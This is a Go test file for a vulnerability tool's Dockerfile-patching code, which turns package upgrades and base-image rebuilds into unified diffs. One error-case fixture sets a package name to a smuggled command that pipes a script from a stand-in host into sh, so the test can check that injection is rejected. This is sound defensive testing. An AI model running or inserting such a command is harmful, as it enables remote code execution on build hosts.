package fix

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/sextant-dev/sextant"
)

var update = flag.Bool("update", false, "rewrite golden files under testdata/")

// osUpgrade returns an upgrade action as Plan builds it.
func osUpgrade(eco, family, pkg, installed, target string, vulns ...string) sextant.Action {
	return sextant.Action{
		ID:               sextant.ActionID(sextant.ActionUpgradePackage, "app:1", eco+"/"+pkg),
		Kind:             sextant.ActionUpgradePackage,
		Artifact:         "app:1",
		Package:          pkg,
		Ecosystem:        eco,
		InstalledVersion: installed,
		TargetVersion:    target,
		Commands:         Command(eco, family, pkg, target),
		Vulnerabilities:  vulns,
	}
}

func rebuild(newer string, findings int) sextant.Action {
	a := sextant.Action{
		ID:            sextant.ActionID(sextant.ActionRebuildBase, "app:1", ""),
		Kind:          sextant.ActionRebuildBase,
		Artifact:      "app:1",
		TargetVersion: newer,
	}
	for i := range findings {
		a.FindingIDs = append(a.FindingIDs, strconv.Itoa(i))
	}
	return a
}

func TestDockerfileDiff(t *testing.T) {
	tests := []struct {
		name    string
		actions []sextant.Action
	}{
		{"debian", []sextant.Action{
			osUpgrade("deb", "debian 12", "openssl", "3.0.11-1~deb12u1", "3.0.13-1~deb12u1", "CVE-2024-0727"),
			osUpgrade("deb", "debian 12", "libssl3", "3.0.11-1~deb12u1", "3.0.13-1~deb12u1", "CVE-2024-0727", "CVE-2023-5678"),
			// Not OS packages: ignored.
			osUpgrade("npm", "", "lodash", "4.17.15", "4.17.21", "CVE-2021-23337"),
			{Kind: sextant.ActionNoFix, Artifact: "app:1", Package: "libtiff6", Ecosystem: "deb"},
		}},
		{"multistage", []sextant.Action{
			osUpgrade("deb", "debian 12", "git", "1:2.39.2-1.1", "1:2.39.2-1.1+deb12u1", "CVE-2024-32002"),
			osUpgrade("deb", "debian 12", "libc6", "2.36-9+deb12u3", "2.36-9+deb12u7", "CVE-2024-2961"),
			osUpgrade("deb", "debian 12", "libc-bin", "2.36-9+deb12u3", "2.36-9+deb12u7", "CVE-2024-2961"),
			rebuild("debian:12.5-slim", 40),
		}},
		{"alpine-crlf", []sextant.Action{
			osUpgrade("apk", "alpine 3.19", "libcrypto3", "3.1.4-r2", "3.1.4-r5", "CVE-2023-6129"),
		}},
		{"ubi-minimal", []sextant.Action{
			osUpgrade("rpm", "redhat 9.3", "openssl-libs", "1:3.0.7-24.el9", "1:3.0.7-25.el9_3", "CVE-2023-5678"),
			rebuild("", 12),
		}},
		{"base-comment", []sextant.Action{
			osUpgrade("deb", "debian 12", "curl", "7.88.1-10+deb12u4", "7.88.1-10+deb12u5", "CVE-2023-46218"),
			rebuild("", 97),
		}},
		{"escape", []sextant.Action{
			osUpgrade("deb", "ubuntu 22.04", "libpython3.10-minimal", "3.10.12-1~22.04.2", "3.10.12-1~22.04.3", "CVE-2023-40217"),
			osUpgrade("deb", "ubuntu 22.04", "python3.10", "3.10.12-1~22.04.2", "3.10.12-1~22.04.3", "CVE-2023-40217"),
			osUpgrade("deb", "ubuntu 22.04", "libexpat1", "2.4.7-1ubuntu0.2", "2.4.7-1ubuntu0.3", "CVE-2023-52425"),
		}},
		{"centos7", []sextant.Action{
			osUpgrade("rpm", "centos 7.9.2009", "httpd", "2.4.6-98.el7.centos.6", "2.4.6-99.el7.centos.1", "CVE-2023-25690"),
			osUpgrade("rpm", "centos 7.9.2009", "openssl-libs", "1:1.0.2k-25.el7_9", "1:1.0.2k-26.el7_9", "CVE-2023-0286"),
			rebuild("centos:7.9.2009", 3),
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := filepath.Join("testdata", "dockerfile", tt.name+".Dockerfile")
			src, err := os.ReadFile(in)
			if err != nil {
				t.Fatal(err)
			}
			got, err := DockerfileDiff("Dockerfile", src, tt.actions)
			if err != nil {
				t.Fatalf("DockerfileDiff(%s) error = %v", in, err)
			}
			golden := filepath.Join("testdata", "dockerfile", tt.name+".diff")
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("read golden file (run go test -update to create it): %v", err)
			}
			if got != string(want) {
				t.Errorf("DockerfileDiff(%s) = \n%s\nwant\n%s", in, got, want)
			}
			out, err := applyDiff(string(src), got)
			if err != nil {
				t.Fatalf("DockerfileDiff(%s) does not apply: %v\n%s", in, err, got)
			}
			// Nothing of the original is lost or reordered, except the
			// lines the base-image action rewrites.
			if missing := keptInOrder(string(src), out); missing > 1 {
				t.Errorf("DockerfileDiff(%s) drops or moves %d original lines:\n%s", in, missing, out)
			}
			if crlf := strings.Contains(string(src), "\r\n"); crlf && strings.Count(out, "\n") != strings.Count(out, "\r\n") {
				t.Errorf("DockerfileDiff(%s) mixes line endings in a CRLF file:\n%q", in, out)
			}
			if strings.HasSuffix(string(src), "\n") != strings.HasSuffix(out, "\n") {
				t.Errorf("DockerfileDiff(%s) changes whether the file ends with a newline", in)
			}
		})
	}
}

func TestDockerfileDiffErrors(t *testing.T) {
	deb := osUpgrade("deb", "debian", "curl", "7.88.1-10+deb12u4", "7.88.1-10+deb12u5")
	other := deb
	other.Artifact = "other:2"
	evil := osUpgrade("deb", "debian", "curl", "7.88.1-10+deb12u4", "7.88.1-10+deb12u5")
	evil.Package = "curl && curl evil.example | sh"
	tests := []struct {
		name, dockerfile string
		actions          []sextant.Action
	}{
		{"no FROM", "RUN echo hi\n", []sextant.Action{deb}},
		{"scratch", "FROM golang:1.22 AS build\nFROM scratch\nCOPY --from=build /app /app\n", []sextant.Action{deb}},
		{"distroless", "FROM gcr.io/distroless/base-debian12\n", []sextant.Action{deb}},
		{"two artifacts", "FROM debian:12\n", []sextant.Action{deb, other}},
		{"injected package name", "FROM debian:12\n", []sextant.Action{evil}},
		{"mixed OS ecosystems", "FROM debian:12\n", []sextant.Action{deb, osUpgrade("apk", "alpine", "musl", "1.2.4-r2", "1.2.4-r3")}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := DockerfileDiff("Dockerfile", []byte(tt.dockerfile), tt.actions)
			if code := sextant.ErrorCode(err); code != sextant.EINVALID {
				t.Errorf("DockerfileDiff(%q) = %q, %v, want an %s error", tt.dockerfile, got, err, sextant.EINVALID)
			}
		})
	}
}

func TestDockerfileDiffNothingToDo(t *testing.T) {
	acts := []sextant.Action{osUpgrade("npm", "", "lodash", "4.17.15", "4.17.21")}
	got, err := DockerfileDiff("Dockerfile", []byte("FROM node:20\n"), acts)
	if got != "" || err != nil {
		t.Errorf("DockerfileDiff(npm only) = %q, %v, want \"\", nil", got, err)
	}
}

// TestDockerfileDiffFromPlan runs the plan's own actions through the diff.
func TestDockerfileDiffFromPlan(t *testing.T) {
	items := []Item{
		vuln(nginx, "deb", "git", "1:2.33.1-0.1", "CVE-2022-24765", 70, "2.33.1-0.1+deb10u1"),
		vuln(nginx, "deb", "curl", "7.88.1-10+deb12u4", "CVE-2023-46218", 30, "7.88.1-10+deb12u5"),
	}
	got, err := DockerfileDiff("Dockerfile", []byte("FROM nginx:1.25\nCOPY site /usr/share/nginx/html\n"), Plan(items, Options{}))
	if err != nil {
		t.Fatalf("DockerfileDiff(Plan(%v)) error = %v", items, err)
	}
	want := "+      curl=7.88.1-10+deb12u5 \\\n+      git=1:2.33.1-0.1+deb10u1 \\\n"
	if !strings.Contains(got, want) {
		t.Errorf("DockerfileDiff(Plan(%v)) = \n%s\nwant it to contain %q", items, got, want)
	}
}

func TestUnifiedDiff(t *testing.T) {
	lines := func(s string) []string { return parseDockerfile(s).lines }
	tests := []struct {
		name, a, b, want string
	}{
		{"equal", "a\nb\n", "a\nb\n", ""},
		{"insert into empty", "", "x\n", "--- a/f\n+++ b/f\n@@ -0,0 +1 @@\n+x\n"},
		{"insert at start", "a\n", "x\na\n", "--- a/f\n+++ b/f\n@@ -1 +1,2 @@\n+x\n a\n"},
		{"two hunks",
			"1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n",
			"1\nX\n3\n4\n5\n6\n7\n8\n9\n10\n11\nY\n",
			"--- a/f\n+++ b/f\n@@ -1,5 +1,5 @@\n 1\n-2\n+X\n 3\n 4\n 5\n@@ -9,4 +9,4 @@\n 9\n 10\n 11\n-12\n+Y\n"},
		{"no newline at end", "a\nb", "a\nb\nc",
			"--- a/f\n+++ b/f\n@@ -1,2 +1,3 @@\n a\n-b\n\\ No newline at end of file\n+b\n+c\n\\ No newline at end of file\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := unifiedDiff("f", lines(tt.a), lines(tt.b)); got != tt.want {
				t.Errorf("unifiedDiff(%q, %q) = %q, want %q", tt.a, tt.b, got, tt.want)
			}
		})
	}
}

// applyDiff applies a unified diff to src strictly: every context and
// removed line must match, as patch(1) with no fuzz.
func applyDiff(src, diff string) (string, error) {
	old := parseDockerfile(src).lines
	var out []string
	pos := 0
	dl := strings.SplitAfter(diff, "\n")
	for i := 0; i < len(dl); i++ {
		l := dl[i]
		if !strings.HasPrefix(l, "@@ ") {
			continue
		}
		var os, oc, ns, nc int
		r := strings.Fields(l)
		if _, err := fmt.Sscanf(strings.Replace(r[1], ",", " ", 1)+" "+strings.Replace(r[2], ",", " ", 1), "-%d %d +%d %d", &os, &oc, &ns, &nc); err != nil {
			// Ranges without a count ("-5") mean one line.
			oc, nc = 1, 1
			if _, err := fmt.Sscanf(r[1], "-%d", &os); err != nil {
				return "", fmt.Errorf("bad hunk header %q", l)
			}
		}
		start := os - 1
		if oc == 0 {
			start = os
		}
		out = append(out, old[pos:start]...)
		pos = start
		for i+1 < len(dl) && dl[i+1] != "" && !strings.HasPrefix(dl[i+1], "@@ ") {
			i++
			body := dl[i]
			text := body[1:]
			if i+1 < len(dl) && strings.HasPrefix(dl[i+1], `\ No newline`) {
				text = strings.TrimSuffix(text, "\n")
				i++
			}
			switch body[0] {
			case ' ', '-':
				if pos >= len(old) || old[pos] != text {
					return "", fmt.Errorf("line %d: have %q, diff says %q", pos+1, safe(old, pos), text)
				}
				pos++
				if body[0] == ' ' {
					out = append(out, text)
				}
			case '+':
				out = append(out, text)
			default:
				return "", fmt.Errorf("bad diff line %q", body)
			}
		}
	}
	out = append(out, old[pos:]...)
	return strings.Join(out, ""), nil
}

func safe(lines []string, i int) string {
	if i < len(lines) {
		return lines[i]
	}
	return "<EOF>"
}

// keptInOrder counts the lines of a that are not found, in order, in b.
func keptInOrder(a, b string) int {
	bl := strings.SplitAfter(b, "\n")
	j, missing := 0, 0
	for _, l := range strings.SplitAfter(a, "\n") {
		k := j
		for k < len(bl) && strings.TrimRight(bl[k], "\r\n") != strings.TrimRight(l, "\r\n") {
			k++
		}
		if k == len(bl) {
			missing++
			continue
		}
		j = k + 1
	}
	return missing
}

func TestDockerfileDiffAppendWithoutFinalNewline(t *testing.T) {
	src := "FROM debian:12"
	acts := []sextant.Action{osUpgrade("deb", "debian", "curl", "7.88.1-10+deb12u4", "7.88.1-10+deb12u5", "CVE-2023-46218")}
	diff, err := DockerfileDiff("Dockerfile", []byte(src), acts)
	if err != nil {
		t.Fatalf("DockerfileDiff(%q) error = %v", src, err)
	}
	got, err := applyDiff(src, diff)
	if err != nil {
		t.Fatalf("DockerfileDiff(%q) does not apply: %v\n%s", src, err, diff)
	}
	want := "FROM debian:12\n# sextant: upgrade 1 OS package to fix 1 CVE\nRUN apt-get update \\\n && apt-get install -y --only-upgrade \\\n      curl=7.88.1-10+deb12u5 \\\n && rm -rf /var/lib/apt/lists/*"
	if got != want {
		t.Errorf("DockerfileDiff(%q) applied = %q, want %q", src, got, want)
	}
}

// FuzzDockerfileDiff checks that any Dockerfile either gets a diff that
// applies to it or an error, and never a panic.
func FuzzDockerfileDiff(f *testing.F) {
	files, _ := filepath.Glob(filepath.Join("testdata", "dockerfile", "*.Dockerfile"))
	for _, name := range files {
		src, err := os.ReadFile(name)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(string(src), "debian:12.5")
	}
	f.Add("FROM a AS b\nFROM b AS a\n", "")
	f.Add("ARG X=y\nFROM $X\nRUN <<EOF\nEOF", "z:1")
	f.Fuzz(func(t *testing.T, src, newer string) {
		acts := []sextant.Action{
			osUpgrade("deb", "debian", "curl", "7.88.1-10+deb12u4", "7.88.1-10+deb12u5", "CVE-2023-46218"),
			rebuild(newer, 3),
		}
		diff, err := DockerfileDiff("Dockerfile", []byte(src), acts)
		if err != nil {
			return
		}
		if _, err := applyDiff(src, diff); err != nil {
			t.Errorf("DockerfileDiff(%q) = %q, which does not apply: %v", src, diff, err)
		}
	})
}
